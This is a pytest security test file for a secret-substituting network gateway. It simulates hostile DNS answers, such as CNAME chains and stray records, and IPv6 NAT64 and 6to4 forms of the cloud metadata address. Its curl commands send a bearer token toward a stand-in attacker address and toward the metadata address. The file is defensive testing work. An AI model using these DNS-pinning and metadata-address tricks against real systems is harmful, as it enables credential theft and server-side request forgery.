"""`airlock run` against a hostile resolver (issue 12, items 1 and 2): what a DNS answer may pin,
and IPv4 addresses hidden inside IPv6 ones.

Everything runs inside two namespaces made here: the "host" of `airlock run` (the gateway's
upstream sockets live there too; the DNS responder runs there on 127.0.0.1), and one for the
servers, every address on its loopback, routed from the host namespace over a veth
(192.0.2.1 - 192.0.2.2, 2001:db8:d::1 - ::2):

  198.51.100.65:80   the legitimate plain-HTTP server of api.allowed.test (nginx)
  198.51.100.66:80   the attacker's plain-HTTP server (nginx; logs what it received)
  [64:ff9b::a9fe:a9fe]:443, [2002:a9fe:a9fe::]:443
                     NAT64 and 6to4 forms of the metadata address 169.254.169.254 (nginx, TLS)
  127.0.0.1:<port>   (host namespace) a tiny UDP DNS responder started here, answering with crafted records
                     (a CNAME chain out of the asked name into one the secret allows, records
                     out of order, records for names nobody asked about)

The secret allows api.allowed.test and opts out of TLS identity (`require_tls_identity = false`):
plain HTTP may carry its value, so the DNS pin is the only gate between the value and any
address. Assertions are made on what the servers received; the fake value is never printed.
"""
import json
import os
import textwrap

import pytest

from netlab import Lab, airlock_run, TAG, assert_absent, assert_equal_secret, fake_value, in_ns, wait_for, wait_listening

AIRLOCK = os.environ.get("AIRLOCK_BIN", "")
PY = "/usr/bin/python3"
NS, UPNS = f"aldns{TAG}", f"aldnu{TAG}"
HOST_IF, UP_IF = f"aldnh{TAG}", f"aldnp{TAG}"
LEGIT_IP, ATTACKER_IP = "198.51.100.65", "198.51.100.66"
NAT64_META, SIX_TO_FOUR_META = "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::"
ALLOWED = "api.allowed.test"
NAT64_NAME, SIX_TO_FOUR_NAME = "nat64.allowed.test", "6to4.allowed.test"

# Fail, never skip: a run without root or the binary must not pass as coverage.
assert os.geteuid() == 0 and AIRLOCK, "these tests need root and AIRLOCK_BIN"

# name -> records (owner, type, data) the responder answers with, whatever the query type asks
# for among A/AAAA (CNAMEs always go along). Names are matched case-insensitively.
ZONE = {
    ALLOWED: [(ALLOWED, "A", LEGIT_IP)],
    # The attack: a name the secret does not allow, CNAME'd into one it does, with an address
    # record for that name pointing at the attacker.
    "chain.evil.test": [("chain.evil.test", "CNAME", ALLOWED), (ALLOWED, "A", ATTACKER_IP)],
    # The same, out of order, in mixed case and with a trailing-dot-equivalent owner.
    "order.evil.test": [("API.Allowed.TEST", "A", ATTACKER_IP), ("order.evil.test", "CNAME", "Api.Allowed.Test")],
    # A chain through a second hop, and the address on the middle name.
    "hop.evil.test": [("hop.evil.test", "CNAME", ALLOWED), (ALLOWED, "CNAME", "cdn.evil.test"),
                      (ALLOWED, "A", ATTACKER_IP), ("cdn.evil.test", "A", "198.51.100.70")],
    # No chain at all: an address for the asked name and one for an unrelated name.
    "stray.evil.test": [("stray.evil.test", "A", "198.51.100.70"), (ALLOWED, "A", ATTACKER_IP)],
    # A loop back into the asked name, with addresses on both.
    "loop.evil.test": [("loop.evil.test", "CNAME", ALLOWED), (ALLOWED, "CNAME", "loop.evil.test"),
                       (ALLOWED, "A", ATTACKER_IP)],
    # An allowed name whose addresses embed the metadata address.
    NAT64_NAME: [(NAT64_NAME, "AAAA", NAT64_META)],
    SIX_TO_FOUR_NAME: [(SIX_TO_FOUR_NAME, "AAAA", SIX_TO_FOUR_META)],
}
EVIL_NAMES = ("chain.evil.test", "order.evil.test", "hop.evil.test", "stray.evil.test", "loop.evil.test")

RESPONDER = r'''
import json, socket, struct, sys
zone = {k.lower(): v for k, v in json.load(open(sys.argv[1])).items()}
TYPES = {"A": 1, "CNAME": 5, "AAAA": 28}
def name(text):
    return b"".join(bytes([len(p)]) + p.encode() for p in text.strip(".").split(".")) + b"\0"
def rdata(kind, data):
    if kind == "A": return socket.inet_pton(socket.AF_INET, data)
    if kind == "AAAA": return socket.inet_pton(socket.AF_INET6, data)
    return name(data)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 0))
print(s.getsockname()[1], flush=True)
def answer(q):
    qid, flags = struct.unpack(">HH", q[:4])
    pos, labels = 12, []
    while pos < len(q) and q[pos] != 0:
        labels.append(q[pos + 1:pos + 1 + q[pos]].decode("ascii", "replace")); pos += 1 + q[pos]
    question = q[12:pos + 5]
    qtype = struct.unpack(">H", q[pos + 1:pos + 3])[0]
    records = [r for r in zone.get(".".join(labels).lower(), []) if r[1] == "CNAME" or TYPES[r[1]] == qtype]
    body = b"".join(name(o) + struct.pack(">HHIH", TYPES[k], 1, 60, len(rdata(k, d))) + rdata(k, d)
                    for o, k, d in records)
    header = struct.pack(">HHHHHH", qid, 0x8180 | (flags & 0x0100), 1, len(records), 0, 0)
    return header + question + body
while True:
    q, peer = s.recvfrom(4096)
    try:
        s.sendto(answer(q), peer)
    except Exception as e:  # a query this responder cannot read: no answer
        print("unanswered:", e, file=sys.stderr, flush=True)
'''


class World:
    def __init__(self, lab):
        self.lab = lab
        self.path = lab.path
        os.chmod(lab.dir, 0o755)
        self.value = fake_value()
        self.servers = None
        self.dns_port = None
        self.configs = 0

    def setup(self):
        self.lab.netns(NS)
        self.lab.netns(UPNS)
        self.lab.veth(HOST_IF, UP_IF, NS, UPNS)
        for ns, dev, v4, v6 in ((NS, HOST_IF, "192.0.2.1/30", "2001:db8:d::1/64"),
                                (UPNS, UP_IF, "192.0.2.2/30", "2001:db8:d::2/64")):
            in_ns(ns, "ip", "addr", "add", v4, "dev", dev)
            in_ns(ns, "ip", "addr", "add", v6, "dev", dev, "nodad")
            in_ns(ns, "ip", "link", "set", dev, "up")
        for cidr in (f"{LEGIT_IP}/32", f"{ATTACKER_IP}/32", f"{NAT64_META}/128", f"{SIX_TO_FOUR_META}/128"):
            in_ns(UPNS, "ip", "addr", "add", cidr, "dev", "lo", *(("nodad",) if ":" in cidr else ()))
        # The servers are somewhere else, not on the host's interfaces (the `host` group).
        in_ns(NS, "ip", "route", "add", "198.51.100.64/28", "via", "192.0.2.2")
        for prefix in ("64:ff9b::/96", "2002::/16"):
            in_ns(NS, "ip", "route", "add", prefix, "via", "2001:db8:d::2")
        self.lab.ca("ca")
        self.lab.leaf("server", "ca", f"DNS:{NAT64_NAME},DNS:{SIX_TO_FOUR_NAME}")
        d = self.lab.dir
        self.servers = self.lab.nginx(UPNS, {
            "addr": "$server_addr", "host": "$host", "uri": "$request_uri", "authorization": "$http_authorization",
        }, f"""\
            server {{
              listen {LEGIT_IP}:80; listen {ATTACKER_IP}:80;
              location / {{ echo "ok"; }}
            }}
            server {{
              listen [{NAT64_META}]:443 ssl; listen [{SIX_TO_FOUR_META}]:443 ssl;
              ssl_certificate {d}/server.pem; ssl_certificate_key {d}/server.key;
              location / {{ echo "metadata"; }}
            }}
            """)
        with open(self.path("zone.json"), "w") as f:
            json.dump(ZONE, f)
        script = self.lab.write("responder.py", RESPONDER)
        with open(self.path("responder.port"), "w+") as out:
            self.lab.start(["ip", "netns", "exec", NS, PY, script, self.path("zone.json")], "responder.stderr",
                           stdout=out)
            wait_for(lambda: out.seek(0) == 0 and out.read().strip(), "the DNS responder's port")
            out.seek(0)
            self.dns_port = int(out.read())
        wait_listening(NS, [f"127.0.0.1:{self.dns_port}"], "the DNS responder", proto="udp")

    def write_config(self, egress):
        self.configs += 1
        return self.lab.write(f"airlock-{self.configs}.toml", textwrap.dedent(f"""\
            [network]
            egress = {json.dumps(list(egress))}
            [[network.upstream_ca]]
            file = "{self.path('ca.pem')}"

            [[secret]]
            env = "API_KEY"
            value_from = "env:AIRLOCK_E2E_DNS_API_KEY"
            allow_hosts = ["{ALLOWED}", "{NAT64_NAME}", "{SIX_TO_FOUR_NAME}"]
            require_tls_identity = false

            [gateway]
            home = "{self.path('home')}"
            audit_log = "{self.path(f'audit-{self.configs}.jsonl')}"
            """))

    def run(self, cmd, egress, timeout=90):
        return airlock_run(self.value, "AIRLOCK_E2E_DNS_API_KEY", self.path("home"), self.write_config(egress),
                           self.dns_port, cmd, timeout, prefix=("ip", "netns", "exec", NS))

    def audit(self):
        """The audit records of the last run."""
        with open(self.path(f"audit-{self.configs}.jsonl")) as f:
            text = f.read()
        assert_absent(self.value, text, "the audit log")
        return [json.loads(line) for line in text.splitlines()]


@pytest.fixture(scope="module")
def world():
    with Lab("airlock-dnsatk-") as lab:
        w = World(lab)
        w.setup()
        yield w


def curl_http(name, marker, ip):
    """A shell line: plain-HTTP curl to `name` at `ip` with the placeholder, then the exit status."""
    return (f'curl -sS -m 15 --resolve {name}:80:{ip} -H "Authorization: Bearer $API_KEY" '
            f'http://{name}/{marker}; echo "rc=$?"')


def lookup(name, family="AF_INET"):
    """A shell line: the guest resolves `name` (so the forwarder sees the answer), prints what it got."""
    return (f'{PY} -c "import socket; print(sorted({{a[4][0] for a in socket.getaddrinfo(\'{name}\', 80, '
            f'socket.{family}, socket.SOCK_STREAM)}}))" || echo "nxdomain {name}"')


HTTP_EGRESS = ("allow@198.51.100.64/28:tcp:80",)


def test_control_a_lookup_of_the_allowed_name_pins_it_and_plain_http_gets_the_value(world):
    # Without this the attack tests below could pass for a setup reason (nothing substituted).
    proc = world.run(["/bin/sh", "-c", lookup(ALLOWED) + ";" + curl_http(ALLOWED, "prov-control", LEGIT_IP)],
                     egress=HTTP_EGRESS)
    assert proc.returncode == 0, proc.stderr
    assert f"['{LEGIT_IP}']" in proc.stdout and "ok\nrc=0" in proc.stdout
    (rec,) = world.servers.wait_received("prov-control")
    assert rec["addr"] == LEGIT_IP
    assert_equal_secret(rec["authorization"], "Bearer " + world.value, "the Authorization the legitimate server received")


@pytest.mark.parametrize("evil", EVIL_NAMES)
def test_an_answer_for_another_name_never_pins_the_allowed_name(world, evil):
    # The guest asks for a name the secret does not allow; the answer also says the allowed name
    # is at the attacker's address. Then it sends the placeholder to the allowed name at that
    # address over plain HTTP. The request gets through (an address rule allows it), but the
    # attacker must see only the placeholder. Before the fix the chain and hop answers pinned
    # the attacker's address for api.allowed.test and the value went there.
    marker = "prov-" + evil.split(".")[0]
    proc = world.run(["/bin/sh", "-c", lookup(evil) + ";" + curl_http(ALLOWED, marker, ATTACKER_IP)],
                     egress=HTTP_EGRESS)
    assert proc.returncode == 0, proc.stderr
    for rec in world.servers.received(marker):
        assert_absent(world.value, json.dumps(rec), "what the attacker's server received")
    # The gateway treated it as a violation (the placeholder bound for an address the allowed
    # name was never resolved to), not as a substitution; the default action blocks it.
    records = world.audit()
    assert [r for r in records if r["event"] == "substitution"] == []
    assert any(r["event"] == "violation" and r["destination"] == f"{ATTACKER_IP}:80" for r in records)


@pytest.mark.parametrize("name,address", [(NAT64_NAME, NAT64_META), (SIX_TO_FOUR_NAME, SIX_TO_FOUR_META)])
def test_ipv6_forms_of_the_metadata_address_are_refused_for_an_allowed_name(world, name, address):
    # An allowed domain whose AAAA embeds 169.254.169.254 (NAT64 well-known prefix, 6to4). Before
    # the fix the answer passed the rebind filter (the prefix counted as merely "reserved"), the
    # pin let the domain rule allow the flow, the guard did not cover the prefix, and the gateway
    # connected to the metadata server's NAT64/6to4 form with the value.
    marker = "meta-" + name.split(".")[0]
    url = f"https://{name}/{marker}"
    lines = [lookup(name, "AF_INET6"),
             f'curl -sS -m 15 -6 -H "Authorization: Bearer $API_KEY" {url}; echo "rc=$?"',
             # The literal, with the name forced: the guard and the gateway must refuse it too.
             f'curl -sS -m 15 --resolve {name}:443:[{address}] -H "Authorization: Bearer $API_KEY" '
             f'{url}-literal; echo "rc=$?"']
    proc = world.run(["/bin/sh", "-c", ";".join(lines)], egress=(f"allow@{name}:tcp:443",))
    assert proc.returncode == 0, proc.stderr
    world.servers.assert_not_received(marker)
    assert "rc=0" not in proc.stdout
    assert f"nxdomain {name}" in proc.stdout
    assert f"DNS {name}: NXDOMAIN, the answer pointed into private" in proc.stderr
    refused = {(r["name"], r["reason"]) for r in world.audit() if r["event"] == "dns_refused"}
    assert (name, "rebinding") in refused


def test_a_metadata_deny_covers_the_nat64_and_6to4_forms_when_their_prefixes_are_allowed(world):
    # The user allows the NAT64 and 6to4 prefixes (which opens them in the guard) but denies the
    # metadata group first: the gateway itself must see 64:ff9b::a9fe:a9fe and 2002:a9fe:a9fe::
    # as metadata. Before the fix neither form was in the group and the gateway connected.
    lines = [f'curl -sS -m 15 --resolve {name}:443:[{address}] https://{name}/{marker}; echo "rc=$?"'
             for name, address, marker in ((NAT64_NAME, NAT64_META, "gwdeny-nat64"),
                                           (SIX_TO_FOUR_NAME, SIX_TO_FOUR_META, "gwdeny-6to4"))]
    proc = world.run(["/bin/sh", "-c", ";".join(lines)],
                     egress=("deny@metadata", "allow@[64:ff9b::/96]:tcp:443", "allow@[2002::/16]:tcp:443"))
    assert proc.returncode == 0, proc.stderr
    world.servers.assert_not_received("gwdeny-")
    assert "rc=0" not in proc.stdout
    for address in (NAT64_META, SIX_TO_FOUR_META):
        assert f"to [{address}]:443 (SNI " in proc.stderr and "denied: deny@metadata" in proc.stderr, proc.stderr
    denied = [r for r in world.audit() if r["event"] == "connection" and r["decision"] == "denied"]
    assert {r["destination"] for r in denied} == {f"[{NAT64_META}]:443", f"[{SIX_TO_FOUR_META}]:443"}
    assert {r["detail"] for r in denied} == {"deny@metadata"}
